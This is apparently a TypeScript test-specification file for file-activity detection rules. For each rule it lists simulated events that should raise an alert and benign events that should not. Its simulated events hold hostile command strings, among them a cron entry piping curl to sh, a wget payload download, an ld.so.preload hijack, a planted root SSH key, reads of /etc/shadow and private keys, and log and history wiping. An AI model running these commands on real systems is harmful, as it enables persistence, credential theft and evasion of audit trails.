/**
 * Specifications of the rules in policies/runtimeintegrity/20-file.yaml: file activity.
 */
import { img } from "./support.js"
import { containerShell, hostPhpFpm, type RuleSpec, rootShell, run, runningDpkg, webContainer, webShell } from "./ruleSpec.js"

export const fileRules: ReadonlyArray<RuleSpec> = [
  {
    rule: "Write below a binary directory",
    priority: "High",
    tags: ["mitre:T1036.005", "persistence", "defense-evasion", "filesystem"],
    on: "FF",
    fires: [
      {
        title: "cp writing /usr/bin/kworkerd in a container",
        build: (s) => {
          const cp = s.spawn(webShell(s, "-c sh"), run("/usr/bin/cp", "/tmp/.x /usr/bin/kworkerd"))
          s.read(cp, "/tmp/.x")
          s.write(cp, "/usr/bin/kworkerd", { truncate: true })
        }
      },
      {
        title: "a write to an already open /usr/local/bin/tool",
        build: (s) => void s.write(s.spawn(rootShell(s), run("/usr/bin/python3", "patch.py")), "/usr/local/bin/tool", { alreadyOpen: true })
      },
      { title: "a shell replacing /bin/ls on the host", build: (s) => void s.write(rootShell(s), "/bin/ls", { truncate: true }) }
    ],
    quiet: [
      {
        title: "dpkg unpacking /usr/bin/nc.openbsd.dpkg-new",
        build: (s) => void s.write(runningDpkg(s), "/usr/bin/nc.openbsd.dpkg-new", { truncate: true })
      },
      {
        title: "a maintainer script started by dpkg writing /usr/sbin/policy-rc.d",
        build: (s) => void s.write(s.spawn(runningDpkg(s), img.sh("/var/lib/dpkg/info/init-system-helpers.postinst configure")), "/usr/sbin/policy-rc.d")
      },
      { title: "a program reading /usr/bin/python3", build: (s) => void s.read(s.spawn(s.loginShell(), run("/usr/bin/file", "/usr/bin/python3")), "/usr/bin/python3") },
      { title: "a write to /usr/share/doc", build: (s) => void s.write(rootShell(s), "/usr/share/doc/notes.txt") }
    ]
  },
  {
    rule: "Write below a library directory",
    priority: "High",
    tags: ["mitre:T1574", "persistence", "defense-evasion", "filesystem"],
    on: "FF",
    fires: [
      {
        title: "a shared object dropped in /lib/x86_64-linux-gnu/security",
        build: (s) => void s.write(s.spawn(rootShell(s), run("/usr/bin/cp", "pam_x.so /lib/x86_64-linux-gnu/security/")), "/lib/x86_64-linux-gnu/security/pam_x.so")
      },
      {
        title: "python writing sitecustomize.py below /usr/local/lib in a container",
        build: (s) => void s.write(s.spawn(containerShell(s).sh, run("/usr/bin/python3", "-c open(...)")), "/usr/local/lib/python3.11/site-packages/sitecustomize.py")
      }
    ],
    quiet: [
      {
        title: "pip installing a package below /usr/local/lib",
        build: (s) => void s.write(s.spawn(containerShell(s).sh, run("/usr/local/bin/pip", "install requests")), "/usr/local/lib/python3.11/site-packages/requests/api.py")
      },
      {
        title: "python writing its bytecode cache below /usr/lib",
        build: (s) => void s.write(s.spawn(rootShell(s), run("/usr/bin/python3", "-c import os")), "/usr/lib/python3.11/__pycache__/os.cpython-311.pyc")
      },
      { title: "the loader mapping a library", build: (s) => void s.loadLibrary(s.spawn(s.loginShell(), run("/usr/bin/ls")), "/lib/x86_64-linux-gnu/libc.so.6") },
      { title: "ldconfig rewriting a library link", build: (s) => void s.write(s.spawn(rootShell(s), run("/sbin/ldconfig")), "/usr/lib/x86_64-linux-gnu/libfoo.so.1.tmp") }
    ]
  },
  {
    rule: "File moved or linked into a system directory",
    priority: "High",
    tags: ["mitre:T1036.005", "mitre:T1574", "persistence", "defense-evasion", "filesystem"],
    on: "FE",
    fires: [
      { title: "mv /tmp/.x /usr/bin/kworkerd", build: (s) => void s.rename(s.spawn(containerShell(s).sh, run("/bin/mv", "/tmp/.x /usr/bin/kworkerd")), "/tmp/.x", "/usr/bin/kworkerd") },
      {
        title: "a symbolic link planted over a library name",
        build: (s) => void s.symlink(s.spawn(rootShell(s), run("/bin/ln", "-sf")), "/tmp/libevil.so", "/usr/lib/x86_64-linux-gnu/libz.so.1")
      },
      { title: "a hard link to a shell placed in /usr/local/sbin", build: (s) => void s.link(rootShell(s), "/bin/bash", "/usr/local/sbin/rescue") }
    ],
    quiet: [
      {
        title: "dpkg renaming its unpacked file into /usr/bin",
        build: (s) => void s.rename(runningDpkg(s), "/usr/bin/nc.openbsd.dpkg-new", "/usr/bin/nc.openbsd")
      },
      {
        title: "update-alternatives linking /usr/bin/editor",
        build: (s) => void s.symlink(s.spawn(runningDpkg(s), run("/usr/bin/update-alternatives", "--install /usr/bin/editor editor /usr/bin/vim 50")), "/etc/alternatives/editor", "/usr/bin/editor")
      },
      { title: "a rename within /tmp", build: (s) => void s.rename(s.loginShell(), "/tmp/a", "/tmp/b") },
      { title: "a binary moved out of /usr/bin", build: (s) => void s.rename(rootShell(s), "/usr/bin/old", "/root/old") }
    ]
  },
  {
    rule: "Dynamic linker preload file modified",
    priority: "High",
    tags: ["mitre:T1574.006", "persistence", "defense-evasion", "filesystem"],
    on: "FF",
    fires: [
      { title: "a shell writing /etc/ld.so.preload", build: (s) => void s.write(webShell(s, "-c echo /tmp/libevil.so > /etc/ld.so.preload"), "/etc/ld.so.preload", { truncate: true }) },
      { title: "a file renamed to /etc/ld.so.preload", on: "FE", build: (s) => void s.rename(rootShell(s), "/tmp/preload", "/etc/ld.so.preload") }
    ],
    quiet: [
      { title: "the loader reading /etc/ld.so.preload", build: (s) => void s.read(s.spawn(s.loginShell(), run("/usr/bin/ls")), "/etc/ld.so.preload") },
      { title: "a write to /etc/ld.so.conf.d", build: (s) => void s.write(rootShell(s), "/etc/ld.so.conf.d/local.conf") }
    ]
  },
  {
    rule: "Credential file read by an untrusted program",
    priority: "High",
    tags: ["mitre:T1003.008", "credential-access", "filesystem"],
    on: "FF",
    fires: [
      {
        title: "cat /etc/shadow run through sudo",
        build: (s) => {
          const sudo = s.setuid(s.spawn(s.loginShell(), run("/usr/bin/sudo", "cat /etc/shadow")), 0, "root")
          s.read(sudo, "/etc/sudoers")
          s.read(s.spawn(sudo, run("/usr/bin/cat", "/etc/shadow")), "/etc/shadow")
        }
      },
      { title: "a web shell reading a file in /etc/sudoers.d", build: (s) => void s.read(s.spawn(webShell(s), run("/bin/cat", "/etc/sudoers.d/90-cloud-init-users")), "/etc/sudoers.d/90-cloud-init-users") },
      { title: "a copy of /etc/gshadow being read", build: (s) => void s.read(s.spawn(rootShell(s), run("/bin/tar", "czf /tmp/e.tgz /etc")), "/etc/gshadow-") }
    ],
    quiet: [
      { title: "sudo reading /etc/sudoers", build: (s) => void s.read(s.setuid(s.spawn(s.loginShell(), run("/usr/bin/sudo", "-i")), 0, "root"), "/etc/sudoers") },
      { title: "unix_chkpwd reading /etc/shadow", build: (s) => void s.read(s.spawn(s.loginShell(), run("/usr/sbin/unix_chkpwd", "alice nullok")), "/etc/shadow") },
      { title: "cat reading /etc/passwd", build: (s) => void s.read(s.spawn(s.loginShell(), run("/bin/cat", "/etc/passwd")), "/etc/passwd") }
    ]
  },
  {
    rule: "SSH private key read by an untrusted program",
    priority: "High",
    tags: ["mitre:T1552.004", "credential-access", "filesystem"],
    on: "FF",
    fires: [
      { title: "python reading alice's id_ed25519", build: (s) => void s.read(s.spawn(s.loginShell(), run("/usr/bin/python3", "steal.py")), "/home/alice/.ssh/id_ed25519") },
      { title: "tar reading a host key", build: (s) => void s.read(s.spawn(rootShell(s), run("/bin/tar", "czf /tmp/k.tgz /etc/ssh")), "/etc/ssh/ssh_host_rsa_key") }
    ],
    quiet: [
      { title: "ssh reading alice's id_ed25519", build: (s) => void s.read(s.spawn(s.loginShell(), run("/usr/bin/ssh", "git@example.org")), "/home/alice/.ssh/id_ed25519") },
      { title: "cat reading a public key", build: (s) => void s.read(s.spawn(s.loginShell(), run("/bin/cat", "/home/alice/.ssh/id_ed25519.pub")), "/home/alice/.ssh/id_ed25519.pub") },
      { title: "a host public key being read", build: (s) => void s.read(s.spawn(rootShell(s), run("/bin/cat")), "/etc/ssh/ssh_host_rsa_key.pub") }
    ]
  },
  {
    rule: "Account database or sudoers modified",
    priority: "High",
    tags: ["mitre:T1136.001", "mitre:T1098", "mitre:T1548.003", "persistence", "privilege-escalation", "filesystem"],
    on: "FF",
    fires: [
      { title: "a shell appending a user to /etc/passwd", build: (s) => void s.write(webShell(s, "-c echo x >> /etc/passwd"), "/etc/passwd", { append: true }) },
      {
        title: "sed -i replacing /etc/sudoers (write to a temporary file, then a rename)",
        on: "FE",
        build: (s) => {
          const sed = s.spawn(rootShell(s), run("/bin/sed", "-i s/^#%wheel/%wheel/ /etc/sudoers"))
          s.rename(sed, "/etc/sedK3x9Qa", "/etc/sudoers")
        }
      },
      { title: "a file dropped in /etc/sudoers.d", build: (s) => void s.write(rootShell(s), "/etc/sudoers.d/99-backdoor") }
    ],
    quiet: [
      {
        title: "useradd updating /etc/passwd",
        build: (s) => {
          const useradd = s.spawn(rootShell(s), run("/usr/sbin/useradd", "-m bob"))
          s.write(useradd, "/etc/passwd+")
          s.rename(useradd, "/etc/passwd+", "/etc/passwd")
        }
      },
      {
        title: "a maintainer script started by dpkg adding a group",
        build: (s) => void s.write(s.spawn(runningDpkg(s), img.sh("/var/lib/dpkg/info/sysstat.postinst configure")), "/etc/group", { append: true })
      },
      { title: "id reading /etc/passwd", build: (s) => void s.read(s.spawn(s.loginShell(), run("/usr/bin/id")), "/etc/passwd") }
    ]
  },
  {
    rule: "SSH authorized keys modified",
    priority: "Medium",
    tags: ["mitre:T1098.004", "persistence", "filesystem"],
    on: "FF",
    fires: [
      { title: "a shell appending a key to root's authorized_keys", build: (s) => void s.write(webShell(s, "-c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"), "/root/.ssh/authorized_keys", { append: true }) },
      { title: "a key file renamed to authorized_keys2", on: "FE", build: (s) => void s.rename(s.loginShell(), "/tmp/k", "/home/alice/.ssh/authorized_keys2") }
    ],
    quiet: [
      { title: "sshd reading authorized_keys at login", build: (s) => void s.read(s.sshd, "/home/alice/.ssh/authorized_keys") },
      {
        title: "the GCE guest agent rewriting authorized_keys",
        build: (s) => void s.write(s.hostService(run("/usr/bin/google_guest_agent")), "/home/alice/.ssh/authorized_keys", { truncate: true })
      }
    ]
  },
  {
    rule: "Cron configuration modified",
    priority: "Medium",
    tags: ["mitre:T1053.003", "persistence", "filesystem"],
    on: "FF",
    fires: [
      { title: "a shell writing /etc/cron.d/updater", build: (s) => void s.write(webShell(s, "-c echo '* * * * * root curl x|sh' > /etc/cron.d/updater"), "/etc/cron.d/updater", { truncate: true }) },
      { title: "a shell appending to /etc/crontab", build: (s) => void s.write(rootShell(s), "/etc/crontab", { append: true }) },
      { title: "crontab -r removing root's crontab", on: "FE", build: (s) => void s.unlink(s.spawn(rootShell(s), run("/usr/bin/crontab", "-r")), "/var/spool/cron/crontabs/root") },
      {
        title: "crontab installing alice's crontab (a temporary file, then a rename)",
        alerts: 2,
        on: ["FF", "FE"],
        build: (s) => {
          const crontab = s.spawn(s.loginShell(), run("/usr/bin/crontab", "/tmp/mycron"))
          s.write(crontab, "/var/spool/cron/crontabs/tmp.X4kdq")
          s.rename(crontab, "/var/spool/cron/crontabs/tmp.X4kdq", "/var/spool/cron/crontabs/alice")
        }
      }
    ],
    quiet: [
      { title: "cron reading /etc/crontab", build: (s) => void s.read(s.hostService(run("/usr/sbin/cron", "-f")), "/etc/crontab") },
      { title: "dpkg installing /etc/cron.daily/logrotate", build: (s) => void s.write(runningDpkg(s), "/etc/cron.daily/logrotate.dpkg-new") },
      { title: "a write to /etc/cronolog.conf, which is not a cron file", build: (s) => void s.write(rootShell(s), "/etc/cronolog.conf") }
    ]
  },
  {
    rule: "Log file deleted or moved",
    priority: "High",
    tags: ["mitre:T1070.002", "defense-evasion", "filesystem"],
    on: "FE",
    fires: [
      { title: "rm deleting /var/log/auth.log", build: (s) => void s.unlink(s.spawn(rootShell(s), run("/bin/rm", "-f /var/log/auth.log")), "/var/log/auth.log") },
      { title: "mv moving /var/log/nginx/access.log away in a container", build: (s) => void s.rename(s.spawn(webShell(s), run("/bin/mv")), "/var/log/nginx/access.log", "/tmp/.a") }
    ],
    quiet: [
      { title: "logrotate renaming /var/log/syslog to syslog.1", build: (s) => void s.rename(s.hostService(run("/usr/sbin/logrotate", "/etc/logrotate.conf")), "/var/log/syslog", "/var/log/syslog.1") },
      { title: "journald removing an archived journal", build: (s) => void s.unlink(s.hostService(run("/lib/systemd/systemd-journald")), "/var/log/journal/0a1b/system@0001.journal~") },
      { title: "rm deleting a file in /tmp", build: (s) => void s.unlink(s.spawn(s.loginShell(), run("/bin/rm", "/tmp/x")), "/tmp/x") }
    ]
  },
  {
    rule: "Log file truncated",
    priority: "Medium",
    tags: ["mitre:T1070.002", "defense-evasion", "filesystem"],
    on: "FF",
    fires: [
      { title: "a shell emptying /var/log/wtmp with a redirection", build: (s) => void s.write(rootShell(s), "/var/log/wtmp", { truncate: true, bytes: 0n }) },
      { title: "truncate -s 0 on an nginx log in a container", build: (s) => void s.truncate(s.spawn(webShell(s), run("/usr/bin/truncate", "-s 0 /var/log/nginx/access.log")), "/var/log/nginx/access.log") }
    ],
    quiet: [
      { title: "nginx appending to its access log", build: (s) => void s.write(webContainer(s).worker, "/var/log/nginx/access.log", { alreadyOpen: true }) },
      { title: "logrotate's copytruncate", build: (s) => void s.truncate(s.hostService(run("/usr/sbin/logrotate", "/etc/logrotate.conf")), "/var/log/app/app.log") },
      { title: "a truncation outside /var/log", build: (s) => void s.write(rootShell(s), "/srv/data/out.csv", { truncate: true }) }
    ]
  },
  {
    rule: "Shell history cleared",
    priority: "Medium",
    tags: ["mitre:T1070.003", "defense-evasion", "filesystem"],
    on: "FE",
    fires: [
      { title: "rm ~/.bash_history", build: (s) => void s.unlink(s.spawn(s.loginShell(), run("/bin/rm", "-f /home/alice/.bash_history")), "/home/alice/.bash_history") },
      { title: "ln -sf /dev/null ~/.bash_history", build: (s) => void s.symlink(s.spawn(rootShell(s), run("/bin/ln", "-sf /dev/null /root/.bash_history")), "/dev/null", "/root/.bash_history") },
      { title: "> ~/.zsh_history (truncated, nothing written)", on: "FF", build: (s) => void s.write(s.loginShell(), "/home/alice/.zsh_history", { truncate: true, bytes: 0n }) }
    ],
    quiet: [
      { title: "bash saving its history on exit (truncates, then writes it back)", build: (s) => void s.write(s.loginShell(), "/home/alice/.bash_history", { truncate: true, bytes: 2048n }) },
      { title: "bash reading its history at start", build: (s) => void s.read(s.loginShell(), "/home/alice/.bash_history") },
      { title: "rm deleting an unrelated dot file", build: (s) => void s.unlink(s.loginShell(), "/home/alice/.lesshst") }
    ]
  },
  {
    rule: "File created below /dev",
    priority: "Medium",
    tags: ["mitre:T1564", "defense-evasion", "persistence", "filesystem"],
    on: "FF",
    fires: [
      { title: "a payload written to /dev/.hid/payload", build: (s) => void s.write(s.spawn(webShell(s), run("/bin/cp", "/tmp/x /dev/.hid/payload")), "/dev/.hid/payload") },
      { title: "mkdir /dev/.udevd", on: "FE", build: (s) => void s.mkdir(s.spawn(rootShell(s), run("/bin/mkdir", "/dev/.udevd")), "/dev/.udevd") },
      { title: "a symbolic link created below /dev", on: "FE", build: (s) => void s.symlink(rootShell(s), "/tmp/x", "/dev/sdz") }
    ],
    quiet: [
      { title: "a shell redirecting output to /dev/null", build: (s) => void s.write(s.loginShell(), "/dev/null", { truncate: true }) },
      { title: "a program writing shared memory in /dev/shm", build: (s) => void s.write(s.spawn(s.loginShell(), run("/usr/bin/python3", "worker.py")), "/dev/shm/sem.mp-abc") },
      { title: "udev creating /dev/disk/by-id links", build: (s) => void s.symlink(s.hostService(run("/lib/systemd/systemd-udevd")), "../../sda", "/dev/disk/by-id/ata-disk0") },
      { title: "a write to a terminal", build: (s) => void s.write(s.loginShell(), "/dev/pts/0", { alreadyOpen: true }) }
    ]
  },
  {
    rule: "Hidden file created in a temporary directory",
    priority: "Medium",
    tags: ["mitre:T1564.001", "defense-evasion", "filesystem"],
    on: "FF",
    fires: [
      { title: "wget -O /tmp/.x", build: (s) => void s.write(s.spawn(webShell(s), run("/usr/bin/wget", "-q -O /tmp/.x http://203.0.113.7/kworker")), "/tmp/.x", { truncate: true }) },
      { title: "a payload renamed to /dev/shm/.cache", on: "FE", build: (s) => void s.rename(s.spawn(containerShell(s).sh, run("/bin/mv")), "/tmp/payload", "/dev/shm/.cache") }
    ],
    quiet: [
      { title: "Xorg creating /tmp/.X0-lock", build: (s) => void s.write(s.hostService(run("/usr/lib/xorg/Xorg", ":0")), "/tmp/.X0-lock") },
      { title: "a program creating /tmp/build.log", build: (s) => void s.write(s.loginShell(), "/tmp/build.log") },
      { title: "a program reading /tmp/.x", build: (s) => void s.read(s.spawn(s.loginShell(), run("/bin/cat")), "/tmp/.x") },
      { title: "a hidden file created in a home directory", build: (s) => void s.write(hostPhpFpm(s), "/var/www/.htaccess") }
    ]
  }
]
